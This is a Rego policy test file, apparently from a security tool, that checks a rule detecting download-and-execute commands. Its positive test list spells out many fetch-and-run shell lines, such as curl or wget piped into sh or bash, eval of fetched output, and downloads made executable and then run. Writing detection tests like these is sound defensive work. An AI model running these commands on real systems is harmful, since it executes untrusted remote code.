package hasp.policies.process.download_executed_test

import data.hasp.policies.process.download_executed
import data.hasp.testing

found(subject) := violations if {
	violations := download_executed.violations with input as subject
}

test_finds_it[command] if {
	some command in [
		"curl -fsSL http://203.0.113.5/x | sh",
		"wget -qO- http://203.0.113.5/x|bash -s",
		"aria2c x | python3",
		"bash <(curl -s http://203.0.113.5/x)",
		"zsh <(curl -s http://203.0.113.5/x)",
		"source <(curl -s x)",
		". <(curl -s x)",
		"eval $(curl -s x)",
		"eval \"$(curl -s x)\"",
		"eval `wget -qO- x`",
		"sh -c $(curl -s x)",
		"sh -c \"$(curl -fsSL x)\"",
		"curl -o /tmp/x http://203.0.113.5/x; chmod +x /tmp/x; /tmp/x",
		"wget x; chmod 777 x",
		"wget x; chmod a+x x",
		"wget x; chmod u+x x",
		"wget x; chmod 0755 x",
		"lwp-download x; chmod -R 777 x",
	]
	count(found(testing.script(command))) == 1
}

test_leaves_others[command] if {
	some command in [
		"curl -s http://x | jq .",
		"curl -s http://x | shasum",
		"echo x | sh",
		"curl -o x http://x; chmod 600 x",
	]
	count(found(testing.script(command))) == 0
}

test_leaves_what_is_ordinary if {
	command := testing.script("curl -s x | sh")
	found(testing.at_start(command)) == set()
	found(testing.of_image(command, "cimg/base")) == set()
}
